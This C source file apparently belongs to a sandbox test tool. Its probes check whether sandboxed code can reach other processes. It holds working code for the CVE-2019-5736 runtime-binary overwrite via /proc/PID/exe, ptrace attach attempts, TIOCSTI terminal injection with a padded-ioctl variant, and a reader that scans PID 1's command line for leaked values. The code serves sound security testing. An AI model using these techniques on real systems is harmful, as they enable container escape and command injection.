/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* nsbox-probe's subcommands against other processes: exe-attack, exe-of, seals, ptrace, tiocsti,
 * init-cmdline. */
#include "nsbox-probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* ---------------------------------------------------------------------
 * exe-attack SECONDS [STOPFILE]: CVE-2019-5736's second process. For
 * SECONDS (or until STOPFILE exists), watch every process that appears,
 * hold its /proc/PID/exe with O_PATH, and keep trying to reopen it for
 * writing (it is busy while the process runs it) and to write to it. Files
 * of the image itself (our own binary, /bin/busybox) are left alone: the
 * target is a runtime's binary. Prints one line per process seen, then
 * one line per write that went through ("WROTE ...") and a summary.
 */
struct held {
	int fd, pid, done;
	char target[256];
};

int cmd_exe_attack(int argc, char **argv)
{
	static struct held held[4096];
	static unsigned char seen[1 << 22];
	size_t n_held = 0;
	struct stat own, bb;
	int wrote = 0, refused = 0, n_seen = 0;
	time_t end;
	const char *stop = argc > 3 ? argv[3] : NULL;

	if (argc < 3)
		return usage();
	end = time(NULL) + atoi(argv[2]);
	if (stat("/proc/self/exe", &own) < 0)
		return outcome(-1);
	if (stat("/bin/busybox", &bb) < 0)
		memset(&bb, 0, sizeof(bb));
	seen[getpid()] = 1;
	printf("READY\n");
	fflush(stdout);
	while (time(NULL) < end) {
		struct dirent *p;
		DIR *procdir = opendir("/proc");
		struct stat st;

		while (procdir && (p = readdir(procdir))) {
			int pid = atoi(p->d_name), fd;
			char path[64], target[256];
			ssize_t len;

			/* seen: 1 = held or ours, 2 = refused so far (tried again
			 * each round: the process may exec something we can open). */
			if (pid <= 0 || pid >= (int)sizeof(seen) || seen[pid] == 1)
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			len = readlink(path, target, sizeof(target) - 1);
			if (len < 0)
				snprintf(target, sizeof(target), "(readlink %s)", errname(errno));
			else
				target[len] = '\0';
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0) {
				if (!seen[pid]) {
					printf("SEEN %d %s open=%s\n", pid, target, errname(errno));
					refused++;
					n_seen++;
				}
				seen[pid] = 2;
				continue;
			}
			if (!seen[pid])
				n_seen++;
			seen[pid] = 1;
			/* What the fd holds: the exe may have changed between the
			 * readlink above (EACCES while the process was not yet
			 * dumpable, say) and the open. */
			snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
			len = readlink(path, target, sizeof(target) - 1);
			if (len < 0)
				snprintf(target, sizeof(target), "(readlink %s)", errname(errno));
			else
				target[len] = '\0';
			if (fstat(fd, &st) == 0 && ((st.st_dev == own.st_dev && st.st_ino == own.st_ino) ||
						    (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino))) {
				close(fd);
				continue;
			}
			printf("SEEN %d %s open=OK\n", pid, target);
			if (n_held < N_(held)) {
				held[n_held].fd = fd;
				held[n_held].pid = pid;
				held[n_held].done = 0;
				snprintf(held[n_held].target, sizeof(held[n_held].target), "%s", target);
				n_held++;
			} else {
				close(fd);
			}
		}
		if (procdir)
			closedir(procdir);
		for (size_t i = 0; i < n_held; i++) {
			char path[64];
			int w;

			if (held[i].done)
				continue;
			snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
			w = open(path, O_WRONLY | O_CLOEXEC);
			if (w < 0) {
				if (errno != ETXTBSY) {
					printf("REOPEN %d %s %s\n", held[i].pid, held[i].target, errname(errno));
					held[i].done = 1;
				}
				continue;
			}
			held[i].done = 1;
			if (pwrite(w, "#!nsbox-probe-pwned\n", 20, 0) == 20) {
				printf("WROTE %d %s\n", held[i].pid, held[i].target);
				wrote++;
			} else {
				printf("WRITE %d %s %s\n", held[i].pid, held[i].target, errname(errno));
			}
			close(w);
		}
		fflush(stdout);
		if (stop && stat(stop, &st) == 0)
			break;
		usleep(1000);
	}
	printf("SUMMARY seen=%d refused=%d held=%zu wrote=%d\n", n_seen, refused, n_held, wrote);
	return 0;
}

/* exe-of PID: where /proc/PID/exe leads, and whether it opens for writing
 * (and takes a write: only into a memfd, never a file). */
int cmd_exe_of(int argc, char **argv)
{
	char path[64], target[256];
	ssize_t len;
	int fd;

	if (argc != 3)
		return usage();
	snprintf(path, sizeof(path), "/proc/%s/exe", argv[2]);
	len = readlink(path, target, sizeof(target) - 1);
	if (len < 0)
		snprintf(target, sizeof(target), "(readlink %s)", errname(errno));
	else
		target[len] = '\0';
	printf("TARGET=%s\n", target);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	printf("OPEN-W=%s\n", fd < 0 ? errname(errno) : "OK");
	if (fd >= 0) {
		if (strncmp(target, "/memfd:", 7) == 0)
			printf("WRITE=%s\n", write(fd, "x", 1) == 1 ? "OK" : errname(errno));
		close(fd);
	}
	return 0;
}

/* seals PATH: the seals of the file PATH leads to (a memfd), by name. */
int cmd_seals(int argc, char **argv)
{
	int fd, seals;

	if (argc != 3)
		return usage();
	fd = open(argv[2], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return outcome(-1);
	seals = fcntl(fd, F_GET_SEALS);
	close(fd);
	if (seals < 0)
		return outcome(-1);
	printf("SEALS=%s%s%s%s\n", seals & F_SEAL_SEAL ? "seal," : "", seals & F_SEAL_SHRINK ? "shrink," : "",
	       seals & F_SEAL_GROW ? "grow," : "", seals & F_SEAL_WRITE ? "write" : "");
	return 0;
}

/* ---------------------------------------------------------------------
 * ptrace PID: PTRACE_ATTACH, then PTRACE_SEIZE and PTRACE_INTERRUPT.
 */
int cmd_ptrace(int argc, char **argv)
{
	pid_t pid;
	long a, s, i = -1;
	int ea = 0, es = 0, ei = 0;

	if (argc != 3)
		return usage();
	pid = (pid_t)atoi(argv[2]);
	a = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
	ea = errno;
	if (a == 0) {
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	s = ptrace(PTRACE_SEIZE, pid, NULL, NULL);
	es = errno;
	i = ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	ei = errno;
	if (s == 0) {
		if (i == 0)
			waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	printf("attach=%s seize=%s interrupt=%s\n", a == 0 ? "OK" : errname(ea),
	       s == 0 ? "OK" : errname(es), i == 0 ? "OK" : errname(ei));
	return 0;
}

/* ---------------------------------------------------------------------
 * tiocsti TEXT: push TEXT into the terminal on fd 0, plain and with
 * garbage above the 32-bit command.
 */
int cmd_tiocsti(int argc, char **argv)
{
	const char *t;
	int plain = 0, pad = 0;

	if (argc != 3)
		return usage();
	for (t = argv[2]; *t; t++)
		if (syscall(SYS_ioctl, 0, (unsigned long)TIOCSTI, t) < 0 && !plain)
			plain = errno;
	for (t = argv[2]; *t; t++)
		if (syscall(SYS_ioctl, 0, 0xffffffff00000000UL | TIOCSTI, t) < 0 && !pad)
			pad = errno;
	printf("plain=%s pad=%s\n", plain ? errname(plain) : "OK", pad ? errname(pad) : "OK");
	return 0;
}

/* ---------------------------------------------------------------------
 * init-cmdline MS: from the first instant for MS milliseconds, read PID
 * 1's command line, which everyone in the sandbox may read. The init wipes
 * nsbox's (options, --env values) before the command can run: prints
 * "CMDLINE <text>" once for each other text read, then a summary.
 */
/* PID 1's command line, its NULs as spaces, without trailing ones. */
static void read_init_cmdline(char *buf, size_t size)
{
	int fd = open("/proc/1/cmdline", O_RDONLY | O_CLOEXEC);
	ssize_t n = fd >= 0 ? read(fd, buf, size - 1) : -1;

	if (fd >= 0)
		close(fd);
	if (n < 0)
		n = 0;
	buf[n] = '\0';
	for (ssize_t i = 0; i < n; i++)
		if (buf[i] == '\0')
			buf[i] = ' ';
	while (n > 0 && buf[n - 1] == ' ')
		buf[--n] = '\0';
}

int cmd_init_cmdline(int argc, char **argv)
{
	static char seen[16][256];
	struct timespec t0;
	int n_seen = 0;

	if (argc != 3)
		return usage();
	clock_gettime(CLOCK_MONOTONIC, &t0);
	do {
		char buf[256];
		bool known;

		read_init_cmdline(buf, sizeof(buf));
		known = !strcmp(buf, "nsbox-init");
		for (int i = 0; i < n_seen && !known; i++)
			known = !strcmp(seen[i], buf);
		if (!known && n_seen < 16) {
			snprintf(seen[n_seen++], sizeof(seen[0]), "%s", buf);
			printf("CMDLINE %s\n", buf);
		}
	} while (within_ms(&t0, atol(argv[2])));
	printf("DONE other=%d\n", n_seen);
	return 0;
}
